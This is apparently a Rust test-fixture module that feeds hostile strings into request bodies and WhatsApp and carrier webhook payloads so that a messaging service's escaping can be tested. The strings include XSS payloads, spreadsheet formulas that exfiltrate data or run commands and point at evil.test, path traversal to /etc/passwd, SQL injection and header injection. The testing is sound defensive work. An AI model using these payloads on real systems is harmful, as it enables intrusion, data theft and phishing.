//! Hostile texts, and all the places where strangers can write.
#![allow(dead_code, reason = "each test uses its part")]

use serde_json::{Value, json};

/// A hostile text and what it tries.
#[derive(Clone, Debug)]
pub struct Hostile {
    pub name: &'static str,
    pub text: String,
}

/// Every script calls `hostile`, so that a test detects execution.
pub fn texts() -> Vec<Hostile> {
    let hostile = |name, text: &str| Hostile { name, text: text.to_owned() };
    vec![
        hostile("script", "<script>hostile('script')</script>"),
        hostile("image", "\"><img src=x onerror=hostile('image')>"),
        hostile("drawing", "'><svg/onload=hostile('drawing')>"),
        hostile("handler", "\" autofocus onfocus=hostile('handler') x=\""),
        hostile("bare_handler", "x onmouseover=hostile('bare') style=position:fixed;inset:0"),
        hostile("link", "javascript:hostile('link')"),
        hostile("disguised_link", "JaVaScRiPt://%0ahostile('disguised')"),
        hostile("data_link", "data:text/html,<script>parent.hostile('data')</script>"),
        hostile(
            "way_out",
            "</title></textarea></style></script></template><script>hostile('out')</script><!--",
        ),
        hostile("style", "<style>*{display:none!important}</style><link rel=stylesheet href=//evil.test>"),
        hostile(
            "frame",
            "<iframe srcdoc='<script>parent.hostile(1)</script>'></iframe><base href=//evil.test>",
        ),
        hostile("form", "</form><form action=//evil.test><button>Sign in</button>"),
        hostile("refresh", "<meta http-equiv=refresh content='0;url=//evil.test'>"),
        hostile("encoded", "&lt;script&gt;hostile(1)&lt;/script&gt;&#60;img src=x onerror=hostile(2)&#62;"),
        hostile("template", "{{ 7 * 7 }} ${7*7} {% raw %} <%= 7*7 %> #{7*7}"),
        hostile("json", "\"}]}</script><script>hostile('json')</script>"),
        hostile("bidi", "\u{202e}gpj.exe \u{2066}\u{202d}never closed\u{2067} \u{200f}\u{061c}"),
        hostile("invisible", "a\u{200b}d\u{200d}m\u{feff}i\u{2060}n\u{ad}\u{034f}\u{3164}\u{e0041}"),
        hostile("only_invisible", "\u{200b}\u{2060}\u{feff}"),
        hostile("stacked", &format!("Z{}", "\u{0336}\u{0489}\u{0310}".repeat(30))),
        hostile("wide", "\u{fdfd}\u{1242b}\u{2e3b}\u{a9c5}"),
        hostile("family", &"👨\u{200d}👩\u{200d}👧\u{200d}👦".repeat(10)),
        hostile("long_word", &"W".repeat(4_096)),
        hostile("long_link", &format!("https://evil.test/{}", "a".repeat(4_000))),
        hostile("many_lines", &"line\n".repeat(400)),
        hostile("terminal", "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31mred\u{9b}0m\u{8}\u{8}"),
        hostile("nothing", "a\u{0}b\u{ffff}\u{fffe}"),
        hostile("header", "line\r\nSet-Cookie: twotick=stolen\r\n\r\n<h1>owned</h1>"),
        hostile("stream", "x\n\nevent: reload\ndata: hostile\n\n"),
        hostile("formula", "=HYPERLINK(\"http://evil.test?\"&A1,\"click\")"),
        hostile("command", "=cmd|'/C calc'!A0"),
        hostile("plus", "+1+cmd|'/C calc'!A0"),
        hostile("minus", "-2+3+cmd|'/C calc'!A0"),
        hostile("at", "@SUM(1+1)*cmd|'/C calc'!A0"),
        hostile("tab_formula", "\t=1+1"),
        hostile("return_formula", "\r=1+1"),
        hostile("full_width_formula", "\u{ff1d}1+1"),
        hostile("quoted", "\";=1+1;\"\n=2+2,\",=3+3"),
        hostile("path", "../../../../etc/passwd%00\\..\\"),
        hostile("query", "' OR 1=1 -- & client_ref=other # ?status=pending"),
    ]
}

/// The text within `characters` and, if the place forbids them, without control characters.
pub fn fitted(hostile: &Hostile, characters: usize) -> String {
    hostile.text.chars().filter(|letter| !letter.is_control()).take(characters).collect()
}

/// Body of a valid create with this text in every free field.
pub fn create(number: &str, hostile: &Hostile) -> Value {
    let mut metadata = serde_json::Map::new();
    metadata.insert(hostile.text.chars().take(64).collect(), json!("the key"));
    metadata.insert("value".to_owned(), json!(hostile.text.chars().take(512).collect::<String>()));
    json!({
        "to": number,
        "profile": "login",
        "locale": "x-script-alert-1",
        "client_ref": fitted(hostile, 128),
        "metadata": metadata,
    })
}

/// A webhook of Meta with one change of one field.
pub fn delivery(account: &str, field: &str, value: Value) -> Value {
    json!({
        "object": "whatsapp_business_account",
        "entry": [{ "id": account, "time": 1_795_011_200, "changes": [{ "field": field, "value": value }] }],
    })
}

/// Account and phone number that a webhook of Meta is for, and its time.
#[derive(Clone, Copy, Debug)]
pub struct Business<'a> {
    pub account: &'a str,
    pub phone_number_id: &'a str,
    /// Unix seconds.
    pub at: i64,
}

impl Business<'_> {
    fn messages(self, mut value: Value) -> Value {
        value["messaging_product"] = json!("whatsapp");
        value["metadata"] =
            json!({ "display_phone_number": "15550001111", "phone_number_id": self.phone_number_id });
        delivery(self.account, "messages", value)
    }

    /// An inbound message with this text as name and content.
    pub fn inbound(self, from: &str, hostile: &Hostile, number: usize) -> Value {
        let digits = from.trim_start_matches('+');
        self.messages(json!({
            "contacts": [{ "profile": { "name": hostile.text }, "wa_id": digits }],
            "messages": [{
                "from": digits,
                "id": format!("wamid.<hostile-{number}\"'&>"),
                "timestamp": self.at.to_string(),
                "type": "text",
                "text": { "body": hostile.text },
            }],
        }))
    }

    /// A message of an unknown type named by this text.
    pub fn strange_kind(self, from: &str, hostile: &Hostile, number: usize) -> Value {
        self.messages(json!({
            "messages": [{
                "from": from.trim_start_matches('+'),
                "id": format!("wamid.strange-{number}"),
                "timestamp": self.at.to_string(),
                "type": hostile.text,
            }],
        }))
    }

    /// A failed status of our message with this text as code, title and details.
    pub fn failure(self, provider_ref: &str, message: &str, hostile: &Hostile) -> Value {
        self.messages(json!({
            "statuses": [{
                "id": provider_ref,
                "status": "failed",
                "timestamp": self.at.to_string(),
                "biz_opaque_callback_data": message,
                "errors": [{
                    "code": hostile.text,
                    "title": hostile.text,
                    "message": hostile.text,
                    "error_data": { "details": hostile.text },
                    "href": "javascript:hostile('href')",
                }],
            }],
        }))
    }

    /// An alert about a template with this text as name, language and reason.
    pub fn paused(self, hostile: &Hostile) -> Value {
        let value = json!({
            "event": "PAUSED",
            "message_template_id": 660_011_223_344_u64,
            "message_template_name": hostile.text,
            "message_template_language": hostile.text,
            "reason": hostile.text,
            "other_info": { "title": hostile.text, "description": hostile.text },
        });
        delivery(self.account, "message_template_status_update", value)
    }

    /// Signed, but of unknown format.
    pub fn unreadable(self, hostile: &Hostile) -> Value {
        json!({ "object": hostile.text, "entry": hostile.text, hostile.text.clone(): [self.account] })
    }
}

/// A carrier's failure report with this text as code and title.
pub fn carrier_failure(message: &str, hostile: &Hostile) -> Value {
    json!({
        "id": hostile.text,
        "reference": message,
        "status": "failed",
        "error": { "code": hostile.text, "title": hostile.text },
    })
}
